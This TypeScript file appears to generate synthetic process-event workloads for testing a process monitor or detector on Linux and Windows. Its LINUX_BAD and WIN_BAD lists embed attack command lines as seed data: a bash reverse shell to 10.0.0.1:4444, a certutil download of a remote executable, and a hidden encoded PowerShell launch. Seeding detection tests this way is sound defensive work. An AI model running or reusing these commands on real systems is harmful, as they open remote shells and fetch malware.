import type { ProcEvent } from "../cli/events/types.ts";

const LINUX: [string, string[]][] = [
  ["/usr/bin/bash", ["bash", "-c", "make -C src all"]],
  ["/usr/bin/git", ["git", "status", "--porcelain"]],
  ["/usr/bin/ls", ["ls", "-la", "/var/log"]],
  ["/usr/bin/grep", ["grep", "-r", "TODO", "src/"]],
  ["/usr/bin/python3", ["python3", "manage.py", "migrate"]],
  ["/usr/bin/sed", ["sed", "-i", "s/a/b/", "conf.ini"]],
  ["/usr/lib/systemd/systemd-journald", ["systemd-journald"]],
  ["/usr/bin/ssh", ["ssh", "-o", "BatchMode=yes", "build@ci"]],
  ["/usr/bin/curl", ["curl", "-fsSL", "https://example.org/pkg.tgz"]],
  ["/usr/bin/gcc", ["gcc", "-O2", "-c", "main.c", "-o", "main.o"]],
  ["/usr/bin/awk", ["awk", "{print $1}", "access.log"]],
  ["/usr/bin/find", ["find", ".", "-name", "*.o", "-delete"]],
];
const LINUX_BAD: [string, string[]][] = [
  ["/usr/bin/base64", ["base64", "-d"]],
  ["/usr/bin/bash", ["bash", "-i", ">&", "/dev/tcp/10.0.0.1/4444", "0>&1"]],
  ["/usr/bin/chmod", ["chmod", "+x", "/tmp/.x"]],
];
const WIN: [string, string][] = [
  [
    "C:\\Windows\\System32\\svchost.exe",
    "svchost.exe -k netsvcs -p -s Schedule",
  ],
  [
    "C:\\Windows\\System32\\conhost.exe",
    "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
  ],
  ["C:\\Windows\\System32\\cmd.exe", 'cmd.exe /c "build.bat release"'],
  ["C:\\Program Files\\Git\\cmd\\git.exe", "git fetch origin"],
  [
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "powershell.exe -File C:\\ci\\test.ps1",
  ],
  [
    "C:\\Program Files\\Microsoft VS Code\\Code.exe",
    '"C:\\Program Files\\Microsoft VS Code\\Code.exe" --type=renderer',
  ],
  [
    "C:\\Windows\\System32\\msiexec.exe",
    "C:\\Windows\\system32\\msiexec.exe /V",
  ],
  ["C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe"],
  [
    "C:\\Program Files (x86)\\Google\\Chrome\\Application\\chrome.exe",
    "chrome.exe --type=utility --lang=en-US",
  ],
  [
    "C:\\Windows\\System32\\RuntimeBroker.exe",
    "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding",
  ],
];
const WIN_BAD: [string, string][] = [
  [
    "C:\\Windows\\System32\\certutil.exe",
    "certutil -urlcache -split -f http://10.0.0.1/a.exe a.exe",
  ],
  ["C:\\Windows\\System32\\whoami.exe", "whoami /all"],
  [
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
  ],
];

/** A workload of `total` events: creation, exec (Linux), threads, exit. */
export function* workload(
  os: "linux" | "windows",
  total: number,
): Generator<ProcEvent> {
  let n = 0;
  let pid = 1000;
  let t = 1000;
  const root = pid++;
  yield {
    kind: "process_snapshot",
    t,
    pid: root,
    tid: root,
    ppid: 1,
    start: -1e9,
    info: os === "linux"
      ? { image: "/usr/bin/bash", argv: ["bash"], uid: 1000, from: {} }
      : {
        image: "C:\\Windows\\explorer.exe",
        cmdline: "C:\\Windows\\Explorer.EXE",
        user: "CORP\\alice",
        from: {},
      },
  };
  n++;
  let k = 0;
  while (n < total) {
    const p = pid++;
    const bad = k % 1000 === 999;
    const i = k++;
    t += 1000;
    const fromPid = i % 7 === 0 || bad ? root : p - 1 - (i % 3) * 2;
    if (os === "linux") {
      const [image, argv] = bad
        ? LINUX_BAD[i % LINUX_BAD.length]
        : LINUX[i % LINUX.length];
      yield {
        kind: "process_create",
        t,
        pid: p,
        tid: p,
        ppid: fromPid,
        ptid: fromPid,
        creatorPid: fromPid,
        creatorTid: fromPid,
        start: t,
      };
      yield {
        kind: "exec",
        t: t + 10,
        pid: p,
        tid: p,
        info: {
          image,
          argv: [...argv, `f${i % 977}`],
          uid: 1000,
          cwd: "/home/alice/src",
          from: {},
        },
      };
      n += 2;
    } else {
      const [image, cmdline] = bad
        ? WIN_BAD[i % WIN_BAD.length]
        : WIN[i % WIN.length];
      const name = image.replace(/^.*\\/, "");
      yield {
        kind: "process_create",
        t,
        pid: p,
        tid: p,
        ppid: fromPid,
        ptid: 0,
        creatorPid: fromPid,
        creatorTid: 0,
        start: t,
        info: {
          image,
          cmdline: `${cmdline} ${i % 977}`,
          user: "CORP\\alice",
          integrityLevel: "Medium",
          originalFileName: name,
          cwd: "C:\\Users\\alice\\",
          from: {},
        },
      };
      n++;
    }
    const threads = i % 3;
    for (let j = 0; j < threads; j++) {
      yield {
        kind: "thread_create",
        t: t + 20,
        pid: p,
        tid: pid + j,
        creatorPid: p,
        creatorTid: p,
      };
      yield { kind: "thread_exit", t: t + 30, pid: p, tid: pid + j, status: 0 };
      n += 2;
    }
    pid += threads;
    yield { kind: "thread_exit", t: t + 40, pid: p, tid: p, status: 0 };
    yield { kind: "process_exit", t: t + 40, pid: p, tid: p, status: 0 };
    n += 2;
  }
}
